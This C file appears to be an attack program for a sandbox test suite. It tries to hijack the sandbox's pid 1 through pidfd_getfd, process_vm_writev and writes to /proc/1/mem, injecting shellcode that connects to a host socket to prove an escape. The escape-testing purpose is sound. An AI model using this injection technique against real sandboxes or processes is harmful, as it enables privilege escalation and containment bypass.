/* Attack program for tests/compiler/test_net_escapes.py (issue 10 §2).
 *
 * Run INSIDE a sandbox as the command. It tries to borrow rights from the
 * sandbox's pid 1 (bwrap's init), which the command can reach through ptrace
 * access when pid 1 is dumpable and has the same uid:
 *
 *   1. pidfd_getfd(pidfd_open(1), 0): take a descriptor from pid 1;
 *   2. process_vm_writev into pid 1;
 *   3. open /proc/1/mem for writing and, if that works, write code at the
 *      address where pid 1 will return from its blocking wait4(): the code
 *      makes pid 1 itself create an AF_UNIX socket, connect to argv[1] (a host
 *      Unix socket) and write "PWNED-PID1\n", then wait for its children and
 *      exit. An orphan that exits wakes pid 1 up.
 *
 * Prints one "name result" line per step. x86-64 only (the test skips others).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

extern char sc_start[], sc_addr[], sc_end[];
__asm__(
    ".text\n"
    "sc_start:\n"
    "  mov $41, %eax\n  mov $1, %edi\n  mov $1, %esi\n  xor %edx, %edx\n  syscall\n"
    "  mov %eax, %r12d\n"
    "  mov %r12d, %edi\n  lea sc_addr(%rip), %rsi\n  mov $110, %edx\n  mov $42, %eax\n  syscall\n"
    "  mov %r12d, %edi\n  lea sc_msg(%rip), %rsi\n  mov $11, %edx\n  mov $1, %eax\n  syscall\n"
    "1:\n  mov $61, %eax\n  mov $-1, %edi\n  xor %esi, %esi\n  xor %edx, %edx\n  xor %r10, %r10\n"
    "  syscall\n  cmp $-10, %eax\n  jne 1b\n"
    "  mov $231, %eax\n  xor %edi, %edi\n  syscall\n"
    "sc_msg:\n  .ascii \"PWNED-PID1\\n\"\n"
    "sc_addr:\n  .word 1\n  .space 108\n"
    "sc_end:\n");

static const char *res(long r) { return r >= 0 ? "ok" : strerror(errno); }

int main(int argc, char **argv) {
    if (argc != 2 || strlen(argv[1]) >= 108) {
        fprintf(stderr, "usage: pid1_takeover HOST_SOCKET_PATH\n");
        return 2;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    long pidfd = syscall(SYS_pidfd_open, 1, 0);
    long got = pidfd < 0 ? -1 : syscall(438 /* pidfd_getfd */, pidfd, 0, 0);
    printf("pidfd_getfd %s\n", res(got));

    char byte = 0;
    struct iovec local = {&byte, 1}, remote = {(void *)0x10000, 1};
    long w = syscall(SYS_process_vm_writev, 1, &local, 1, &remote, 1, 0);
    printf("process_vm_writev %s\n", w >= 0 || errno == EFAULT ? "ok" : strerror(errno));

    int mem = open("/proc/1/mem", O_RDWR);
    printf("mem_open %s\n", res(mem));
    if (mem < 0)
        return 0;
    char line[512] = {0};
    int sfd = open("/proc/1/syscall", O_RDONLY);
    if (sfd < 0 || read(sfd, line, sizeof line - 1) <= 0) {
        printf("inject no-syscall-file\n");
        return 0;
    }
    /* "nr a1 a2 a3 a4 a5 a6 sp pc": pc is where pid 1 resumes after the syscall */
    unsigned long long pc = 0;
    char *last = strrchr(line, ' ');
    if (!last || sscanf(last + 1, "%llx", &pc) != 1 || pc == 0) {
        printf("inject no-pc\n");
        return 0;
    }
    size_t n = (size_t)(sc_end - sc_start);
    char *code = malloc(n);
    memcpy(code, sc_start, n);
    strcpy(code + (sc_addr - sc_start) + 2, argv[1]);
    ssize_t put = pwrite(mem, code, n, (off_t)pc);
    printf("inject %s\n", put == (ssize_t)n ? "written" : strerror(errno));
    if (put != (ssize_t)n)
        return 0;
    /* wake pid 1: an orphan that exits is reaped by it */
    pid_t child = fork();
    if (child == 0) {
        if (fork() == 0) {
            usleep(100000);
            _exit(0);
        }
        _exit(0);
    }
    waitpid(child, NULL, 0);
    usleep(700000);                 /* let pid 1 run the injected code */
    printf("done\n");
    return 0;
}
